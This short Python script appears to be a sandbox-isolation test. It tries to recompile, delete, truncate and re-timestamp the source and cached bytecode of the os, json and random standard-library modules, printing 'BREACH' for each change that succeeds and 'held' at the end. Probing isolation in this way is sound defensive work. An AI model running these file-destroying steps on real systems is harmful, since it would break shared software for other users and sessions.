# attack: replace cached bytecode of the standard library, so that other sessions run it
# must end: completed
import importlib.util, json, os, py_compile, random
for module in (os, json, random):
    cached = importlib.util.cache_from_source(module.__file__)
    try:
        py_compile.compile(module.__file__, doraise=True)
        print("BREACH: rewrote", cached)
    except OSError:
        pass
    for action in (os.unlink, lambda path: os.truncate(path, 0), os.utime):
        for path in (cached, module.__file__):
            try:
                action(path)
                print("BREACH: changed", path)
            except OSError:
                pass
print("held")
